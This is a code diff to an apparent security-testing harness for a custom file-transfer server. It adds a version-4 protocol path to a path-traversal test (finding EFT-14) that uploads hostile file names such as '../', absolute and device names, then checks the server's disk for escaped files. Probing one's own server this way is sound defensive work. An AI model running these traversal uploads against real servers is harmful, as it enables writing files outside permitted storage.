@@ -6,6 +6,11 @@ names, trailing dots). The server may refuse a name (1607) or store it. With
 ``--data-dir`` (lab access to the server's disk) we then look for the uploads outside
 ``files/<our id>/``: success if one escaped. Without it the attack can only report
 which names the server accepted.
+
+``--protocol 4``: the same names in the metadata record of a registered identity of
+ours (our client refuses to send them; we build the record by hand). A version-4 file
+name is a strict pattern, so the server answers each with 1607 (error 2, bad file
+name) and the session goes on; we look for escapes under ``v4/files/<our id>/``.
 """
 
 from __future__ import annotations
@@ -19,6 +24,7 @@ from eft_protocol.codes import RequestCode, ResponseCode
 
 from .common import Out, own_session
 from .framing import name_request, one_packet_attempt
+from .v4 import add_protocol_argument, own_identity
 
 FINDING = "EFT-14"
 SUMMARY = "hostile file names (../, absolute, \\, devices) against the server's storage"
@@ -48,6 +54,7 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
     parser.add_argument("--data-dir", help="the server's data directory, to look for escapes")
     parser.add_argument("--as", dest="own_name", default="traversal", help="our own name")
+    add_protocol_argument(parser)
 
 
 def escaped(data_dir: Path, own: Path, token: str) -> list[str]:
@@ -61,8 +68,35 @@ def escaped(data_dir: Path, own: Path, token: str) -> list[str]:
     return sorted(found)
 
 
+async def upload_v4(
+    args: argparse.Namespace, token: str, out: Out
+) -> tuple[Path, dict[str, object]]:
+    client = await own_identity(args.target, f"{args.own_name}-{os.urandom(3).hex()}")
+    accepted: list[str] = []
+    refused: list[str] = []
+    answers: dict[str, int] = {}  # name -> the server's last answer
+    try:
+        # A control: a plain name must be stored, or the refusals below mean nothing.
+        control = await client.upload(f"{token}.txt", f"{token} control\n".encode())
+        out.step(f"control {token}.txt: {control}")
+        for template in NAMES:
+            name = template.format(t=token)
+            answer = await client.upload(name, f"{token} {name}\n".encode())
+            answers[name] = answer
+            (accepted if answer == ResponseCode.ACKNOWLEDGED else refused).append(name)
+            out.step(f"{name!r}: {'stored' if answer == ResponseCode.ACKNOWLEDGED else answer}")
+    finally:
+        await client.close()
+    own = Path(args.data_dir or ".") / "v4" / "files" / client.client_id.hex()
+    fields = {"accepted": accepted, "refused": refused, "token": token, "answers": answers}
+    return own, {**fields, "control": control}
+
+
 async def run(args: argparse.Namespace, out: Out) -> bool:
     token = f"eft-escape-{os.urandom(4).hex()}"
+    if args.protocol == 4:
+        own, fields = await upload_v4(args, token, out)
+        return verdict(args, own, token, fields, out)
     session = await own_session(args.target, f"{args.own_name}-{os.urandom(3).hex()}")
     link, client_id = session.link, session.client_id
     accepted: list[str] = []
@@ -80,12 +114,18 @@ async def run(args: argparse.Namespace, out: Out) -> bool:
             out.step(f"{name!r}: {'stored' if answer == ResponseCode.ACKNOWLEDGED else answer}")
     finally:
         await link.close()
-    fields = {"accepted": accepted, "refused": refused, "token": token}
+    fields: dict[str, object] = {"accepted": accepted, "refused": refused, "token": token}
+    own = Path(args.data_dir or ".") / "files" / client_id.hex()
+    return verdict(args, own, token, fields, out)
+
+
+def verdict(
+    args: argparse.Namespace, own: Path, token: str, fields: dict[str, object], out: Out
+) -> bool:
     if not args.data_dir:
         return out.result(
             False, "cannot tell where accepted names landed without --data-dir", **fields
         )
-    own = Path(args.data_dir) / "files" / client_id.hex()
     escapes = escaped(Path(args.data_dir), own, token)
     inside = sorted(p.name for p in own.glob(f"*{token}*"))
     if escapes:
